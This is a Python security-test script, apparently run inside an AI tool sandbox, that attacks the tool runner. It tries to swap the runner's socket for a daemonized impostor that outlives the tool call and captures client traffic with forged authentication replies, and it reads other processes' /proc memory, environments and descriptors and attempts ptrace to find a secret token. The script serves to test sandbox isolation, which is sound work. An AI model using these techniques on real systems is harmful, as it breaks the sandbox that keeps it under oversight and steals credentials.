#!/usr/bin/env python3
# Over 500 lines on purpose: one self-contained file, copied alone into the sandbox (stdlib only).
"""The attacker's half of the security tests: runs inside the sandbox, as a
tool (or as a uid-1000 `docker exec` process that stands in for one), with
nothing but the Python standard library.

  probe.py replace ATTEMPT TAG   try to replace the runner's socket (unlink,
                                 rename, symlink, dirswap); when it works,
                                 leave an impostor capturing there
  probe.py impostor PATH TAG     run an impostor listening at PATH (or
                                 tcp:HOST:PORT)
  probe.py proc                  read the runner's and PID 1's /proc files,
                                 fds and memory; ptrace them
  probe.py runners               the runner's pids, main one first

Results are one JSON object on stdout. Everything an impostor receives goes
to /workspace/.sec/cap-TAG-N.bin (one file per connection) and everything
`proc` managed to read to /workspace/.sec/proc-dump.bin, for the host to
search for the token: the token itself never enters the sandbox's tools.
SEC_WORK_DIR replaces /workspace/.sec (for an impostor the host runs).
"""

import ctypes
import errno
import json
import os
import socket
import sys
import threading
import time

SOCKET = "/run/sagewai/tool-runner.sock"
SOCKET_DIR = os.path.dirname(SOCKET)
WORK = os.environ.get("SEC_WORK_DIR", "/workspace/.sec")
IMPOSTOR_LIFETIME_S = 120


def err_name(e):
    return errno.errorcode.get(e.errno, str(e.errno)) if isinstance(e, OSError) else repr(e)


def attempt(steps, what, fn):
    """Runs fn(); records "ok" or the errno name under `what`."""
    try:
        fn()
        steps.append({"op": what, "result": "ok"})
        return True
    except OSError as e:
        steps.append({"op": what, "result": err_name(e)})
        return False


# ---------------------------------------------------------------- runners --


def proc_field(pid, name):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith(name + ":"):
                    return line.split(":", 1)[1].strip()
    except OSError:
        pass
    return None


def comm(pid):
    try:
        with open(f"/proc/{pid}/comm") as f:
            return f.read().strip()
    except OSError:
        return ""


def runner_pids():
    """The runner (child of PID 1, comm sagewai-tool-r…) and its helpers of
    the same comm (a spawner, say). Docker exec'd runners (the health check)
    have another parent and are left out: they come and go."""
    procs = {}
    for d in os.listdir("/proc"):
        if d.isdigit() and comm(d).startswith("sagewai-tool-r"):
            procs[int(d)] = int(proc_field(d, "PPid") or -1)
    main = [p for p, pp in procs.items() if pp == 1]
    helpers = [p for p, pp in procs.items() if main and pp == main[0]]
    return main[:1] + sorted(helpers)


# ---------------------------------------------------------------- impostor --


def frame(ftype, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + stream.to_bytes(4, "big") + payload


def hpack_literal(name, value):
    """A literal header field without indexing, new name, no Huffman."""
    out = b"\x00"
    for s in (name.encode(), value.encode()):
        assert len(s) < 127
        out += bytes([len(s)]) + s
    return out


# How an impostor answers each call ($SEC_IMPOSTOR): "forged", a challenge
# answer with a random server_proof (all an impostor without the token can
# offer); "unimplemented", as an old runner without Auth would (a client
# must not fall back to sending the token); "bearer", a challenge answer
# naming another scheme.
BEHAVIOUR = os.environ.get("SEC_IMPOSTOR", "forged")


def forged_challenge_answer():
    """An Auth.ChallengeResponse whose server_proof is random bytes."""
    scheme = b"bearer" if BEHAVIOUR == "bearer" else b"sagewai-hmac-sha256-v1"
    msg = b"\x0a" + bytes([len(scheme)]) + scheme
    msg += b"\x12\x20" + os.urandom(32) + b"\x1a\x20" + os.urandom(32)
    msg += b"\x20\xe0\xd4\x03"  # idle_expiry_ms 60000
    return msg


def serve_connection(conn, capture_path):
    """Speaks just enough HTTP/2 for a gRPC client to send its calls: SETTINGS
    and PING answered, and every stream answered once as BEHAVIOUR says.
    Records every byte received."""
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    buf = b""
    answered = set()
    conn.settimeout(IMPOSTOR_LIFETIME_S)
    with open(capture_path, "wb", buffering=0) as out:
        try:
            conn.sendall(frame(4, 0, 0))
            while True:
                data = conn.recv(65536)
                if not data:
                    return
                out.write(data)
                buf += data
                if buf.startswith(preface):
                    buf = buf[len(preface):]
                while len(buf) >= 9:
                    length = int.from_bytes(buf[0:3], "big")
                    if len(buf) < 9 + length:
                        break
                    ftype, flags = buf[3], buf[4]
                    stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    payload = buf[9:9 + length]
                    buf = buf[9 + length:]
                    if ftype == 4 and not flags & 1:
                        conn.sendall(frame(4, 1, 0))
                    elif ftype == 6 and not flags & 1:
                        conn.sendall(frame(6, 1, 0, payload))
                    elif ftype in (0, 1) and stream and stream not in answered:
                        if ftype == 1 and not flags & 1:
                            continue  # headers of a call whose message follows
                        answered.add(stream)
                        if BEHAVIOUR == "unimplemented":
                            conn.sendall(frame(1, 5, stream, b"\x88"
                                               + hpack_literal("content-type", "application/grpc")
                                               + hpack_literal("grpc-status", "12")))
                            continue
                        msg = forged_challenge_answer()
                        conn.sendall(
                            frame(1, 4, stream, b"\x88" + hpack_literal("content-type", "application/grpc"))
                            + frame(0, 0, stream, b"\x00" + len(msg).to_bytes(4, "big") + msg)
                            + frame(1, 5, stream, hpack_literal("grpc-status", "0")))
        except OSError:
            return
        finally:
            conn.close()


def run_impostor(listener, tag):
    """Accepts until /workspace/.sec/stop-TAG appears (or the lifetime ends),
    then waits for its connections to end and writes done-TAG."""
    stop = f"{WORK}/stop-{tag}"
    deadline = time.monotonic() + IMPOSTOR_LIFETIME_S
    listener.settimeout(0.1)
    threads = []
    n = 0
    while not (os.path.exists(stop) or os.path.exists(f"{WORK}/stop-all")) and time.monotonic() < deadline:
        try:
            conn, _ = listener.accept()
        except socket.timeout:
            continue
        n += 1
        t = threading.Thread(target=serve_connection, args=(conn, f"{WORK}/cap-{tag}-{n}.bin"))
        t.start()
        threads.append(t)
    listener.close()
    for t in threads:
        t.join(10)
    with open(f"{WORK}/done-{tag}", "w") as f:
        f.write(f"{n}\n")


# The process that called listen(): what SO_PEERCRED reports to a client,
# even after that process has handed the socket on and exited.
LISTEN_PID = None


def write_pid_file(tag):
    tmp = f"{WORK}/imp-{tag}.pid.tmp"
    with open(tmp, "w") as f:
        f.write(f"{LISTEN_PID or os.getpid()} {os.getuid()}\n")
    os.rename(tmp, f"{WORK}/imp-{tag}.pid")


def daemonize_impostor(listener, tag):
    """Leaves the impostor behind when the tool call ends: its own session,
    so that the call's process group kill does not reach it."""
    if os.fork() > 0:
        listener.close()
        return
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    devnull = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    listener.listen(16)
    global LISTEN_PID
    LISTEN_PID = os.getpid()
    write_pid_file(tag)
    run_impostor(listener, tag)
    os._exit(0)


def bind_listener(path, listen=True):
    """A unix socket bound at PATH. The attempts bind only and leave listen()
    to the impostor process that stays: SO_PEERCRED names whoever listened."""
    global LISTEN_PID
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.bind(path)
        if listen:
            s.listen(16)
            LISTEN_PID = os.getpid()
    except OSError:
        s.close()
        raise
    return s


def cmd_replace(kind, tag):
    steps = []
    listener = None
    side = f"{SOCKET_DIR}/.sec-{tag}.sock"  # same mount: rename(2) can work
    tmp_sock = f"/tmp/sec-{tag}.sock"       # elsewhere: only mv's copy can
    for stale in (side, tmp_sock, f"{SOCKET_DIR}/.sec-{tag}.lnk"):
        try:
            os.unlink(stale)
        except OSError:
            pass
    try:
        before = os.lstat(SOCKET)
    except OSError:
        before = None
    if kind == "unlink":
        if attempt(steps, f"unlink {SOCKET}", lambda: os.unlink(SOCKET)):
            try:
                listener = bind_listener(SOCKET, listen=False)
                steps.append({"op": f"bind {SOCKET}", "result": "ok"})
            except OSError as e:
                steps.append({"op": f"bind {SOCKET}", "result": err_name(e)})
    elif kind == "rename":
        try:
            listener = bind_listener(side, listen=False)
            steps.append({"op": f"bind {side}", "result": "ok"})
        except OSError as e:
            steps.append({"op": f"bind {side}", "result": err_name(e)})
        if listener is not None:
            if not attempt(steps, f"rename {side} -> {SOCKET}", lambda: os.rename(side, SOCKET)):
                listener.close()
                listener = None
        else:
            attempt(steps, f"rename {SOCKET} -> {SOCKET}.old", lambda: os.rename(SOCKET, SOCKET + ".old"))
            # What `mv` does from another mount: rename fails (EXDEV), then
            # it removes the target and copies.
            try:
                other = bind_listener(tmp_sock, listen=False)
            except OSError as e:
                other = None
                steps.append({"op": f"bind {tmp_sock}", "result": err_name(e)})
            if other is not None:
                r = os.spawnvp(os.P_WAIT, "sh", ["sh", "-c", f"mv -f {tmp_sock} {SOCKET} 2>{WORK}/mv-{tag}.err"])
                with open(f"{WORK}/mv-{tag}.err") as f:
                    steps.append({"op": f"mv -f {tmp_sock} {SOCKET}", "result": "ok" if r == 0 else f.read().strip()})
                other.close()
    elif kind == "symlink":
        link = f"{SOCKET_DIR}/.sec-{tag}.lnk"
        try:
            listener = bind_listener(side, listen=False)
            steps.append({"op": f"bind {side}", "result": "ok"})
        except OSError as e:
            steps.append({"op": f"bind {side}", "result": err_name(e)})
        # Relative: the host follows it from its own side of the mount.
        target = os.path.basename(side) if listener is not None else tmp_sock
        if attempt(steps, f"symlink {link} -> {target}", lambda: os.symlink(target, link)):
            if not attempt(steps, f"rename {link} -> {SOCKET}", lambda: os.rename(link, SOCKET)):
                os.unlink(link)
        r = os.spawnvp(os.P_WAIT, "sh", ["sh", "-c", f"ln -sf {target} {SOCKET} 2>{WORK}/ln-{tag}.err"])
        with open(f"{WORK}/ln-{tag}.err") as f:
            steps.append({"op": f"ln -sf {target} {SOCKET}", "result": "ok" if r == 0 else f.read().strip()})
        if listener is not None and os.path.realpath(SOCKET) != side:
            listener.close()
            listener = None
    elif kind == "dirswap":
        # The whole directory: a mount point on a read-only root.
        attempt(steps, f"rename {SOCKET_DIR} -> {SOCKET_DIR}.old",
                lambda: os.rename(SOCKET_DIR, SOCKET_DIR + ".old"))
        attempt(steps, f"symlink {SOCKET_DIR}.new -> /tmp", lambda: os.symlink("/tmp", SOCKET_DIR + ".new"))
        attempt(steps, f"rmdir {SOCKET_DIR}", lambda: os.rmdir(SOCKET_DIR))
    else:
        raise SystemExit(f"unknown attempt {kind}")
    try:
        after = os.lstat(SOCKET)
    except OSError:
        after = None
    changed = before is None or after is None or (before.st_ino, before.st_dev) != (after.st_ino, after.st_dev)
    replaced = listener is not None
    if replaced:
        daemonize_impostor(listener, tag)
    print(json.dumps({"attempt": kind, "uid": os.getuid(), "steps": steps, "replaced": replaced,
                      "entry_changed": changed}))


def cmd_impostor(path, tag):
    """PATH: a unix socket path, or tcp:HOST:PORT (port 0: any; the port
    chosen goes to imp-TAG.port)."""
    if path.startswith("tcp:"):
        host, port = path[4:].rsplit(":", 1)
        listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind((host, int(port)))
        listener.listen(16)
        with open(f"{WORK}/imp-{tag}.port", "w") as f:
            f.write(f"{listener.getsockname()[1]}\n")
    else:
        try:
            os.unlink(path)
        except FileNotFoundError:
            pass
        listener = bind_listener(path)
    write_pid_file(tag)
    run_impostor(listener, tag)


# -------------------------------------------------------------------- proc --

PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
libc = ctypes.CDLL(None, use_errno=True)


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def errno_result(rc):
    if rc == -1:
        return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
    return "ok"


class Dump:
    """Whatever the probe could read, for the host's token search."""

    def __init__(self, path):
        self.f = open(path, "wb")
        self.size = 0

    def add(self, label, data):
        self.f.write(b"\n@@" + label.encode() + b"\n" + data)
        self.size += len(data)


def read_memory(pid, dump, limit=64 << 20):
    """Reads every readable mapping of /proc/PID/mem; "ok" when it read any."""
    try:
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError as e:
        return err_name(e)
    got = 0
    try:
        with open(f"/proc/{pid}/maps") as maps:
            regions = [line.split() for line in maps]
    except OSError as e:
        mem.close()
        return f"mem opened, maps {err_name(e)}"
    first_error = None
    for r in regions:
        if "r" not in r[1] or (len(r) > 5 and r[5] in ("[vvar]", "[vsyscall]", "[vvar_vclock]")):
            continue
        lo, hi = (int(x, 16) for x in r[0].split("-"))
        try:
            mem.seek(lo)
            data = mem.read(min(hi - lo, limit - got))
        except OSError as e:
            first_error = first_error or err_name(e)
            continue
        if data:
            dump.add(f"mem {pid} {r[0]}", data)
            got += len(data)
        if got >= limit:
            break
    mem.close()
    return "ok" if got else f"mem opened, reads {first_error}"


def probe_target(pid, dump):
    res = {"comm": comm(pid)}
    for name in ("environ", "cmdline", "maps", "auxv", "stack", "syscall", "io"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as f:
                data = f.read()
            dump.add(f"{name} {pid}", data)
            res[name] = "ok"
        except OSError as e:
            res[name] = err_name(e)
    res["mem"] = read_memory(pid, dump)
    for link in ("exe", "cwd", "root"):
        try:
            os.readlink(f"/proc/{pid}/{link}")
            res[link] = "ok"
        except OSError as e:
            res[link] = err_name(e)
    try:
        fds = sorted(int(n) for n in os.listdir(f"/proc/{pid}/fd"))
        res["fd_list"] = "ok"
        res["fds"] = {}
        for n in fds:
            try:
                res["fds"][n] = os.readlink(f"/proc/{pid}/fd/{n}")
            except OSError as e:
                res["fds"][n] = err_name(e)
    except OSError as e:
        res["fd_list"] = err_name(e)
        fds = list(range(64))
    # Opening a descriptor by number, memfds included, without listing.
    opened, refused = [], []
    for n in sorted(set(range(64)) | set(fds)):
        try:
            fd = os.open(f"/proc/{pid}/fd/{n}", os.O_RDONLY | os.O_NONBLOCK)
        except OSError as e:
            if e.errno not in (errno.ENOENT, errno.ENXIO):
                refused.append(err_name(e))
            continue
        opened.append(n)
        try:
            dump.add(f"fd {pid} {n}", os.pread(fd, 1 << 20, 0))
        except OSError:
            pass
        os.close(fd)
    res["fd_open"] = f"opened {opened}" if opened else (sorted(set(refused)) or ["none present"])[0]
    # The same descriptors through pidfd_getfd(2): needs ptrace access.
    pidfd = libc.syscall(SYS_PIDFD_OPEN, pid, 0)
    if pidfd < 0:
        res["pidfd_getfd"] = "pidfd_open " + errno_result(-1)
    else:
        got, errs = [], set()
        for n in range(64):
            fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, n, 0)
            if fd < 0:
                e = ctypes.get_errno()
                if e != errno.EBADF:
                    errs.add(errno.errorcode.get(e, str(e)))
                continue
            got.append(n)
            try:
                dump.add(f"pidfd_getfd {pid} {n}", os.pread(fd, 1 << 20, 0))
            except OSError:
                pass
            os.close(fd)
        os.close(pidfd)
        res["pidfd_getfd"] = f"got {got}" if got else (sorted(errs) or ["none present"])[0]
    buf = ctypes.create_string_buffer(16)
    local = IoVec(ctypes.cast(buf, ctypes.c_void_p), 16)
    remote = IoVec(0x10000, 16)
    res["process_vm_readv"] = errno_result(
        libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
    for name, req in (("ptrace_attach", PTRACE_ATTACH), ("ptrace_seize", PTRACE_SEIZE)):
        rc = libc.ptrace(req, pid, None, None)
        res[name] = errno_result(rc)
        if rc == 0:
            if req == PTRACE_ATTACH:
                os.waitpid(pid, 0x40000000)  # __WALL: the attach stop
            libc.ptrace(PTRACE_DETACH, pid, None, None)
    return res


def cmd_proc():
    dump = Dump(f"{WORK}/proc-dump.bin")
    runners = runner_pids()
    targets = {1: "pid1"}
    for i, p in enumerate(runners):
        targets[p] = "runner" if i == 0 else "runner-helper"
    out = {"uid": os.getuid(), "self": os.getpid(), "targets": {}}
    for pid, role in targets.items():
        out["targets"][str(pid)] = dict(probe_target(pid, dump), role=role)
    # Every other process's environment and command line, for the search.
    mine = {os.getpid(), os.getppid()}
    for d in os.listdir("/proc"):
        if d.isdigit() and int(d) not in mine and int(d) not in targets:
            for name in ("environ", "cmdline"):
                try:
                    with open(f"/proc/{d}/{name}", "rb") as f:
                        dump.add(f"{name} {d}", f.read())
                except OSError:
                    pass
    out["dumped_bytes"] = dump.size
    print(json.dumps(out))


def main():
    if len(sys.argv) >= 2 and sys.argv[1] == "runners":
        print(json.dumps(runner_pids()))
    elif len(sys.argv) == 4 and sys.argv[1] == "replace":
        cmd_replace(sys.argv[2], sys.argv[3])
    elif len(sys.argv) == 4 and sys.argv[1] == "impostor":
        cmd_impostor(sys.argv[2], sys.argv[3])
    elif len(sys.argv) == 2 and sys.argv[1] == "proc":
        cmd_proc()
    else:
        raise SystemExit(__doc__)


if __name__ == "__main__":
    main()
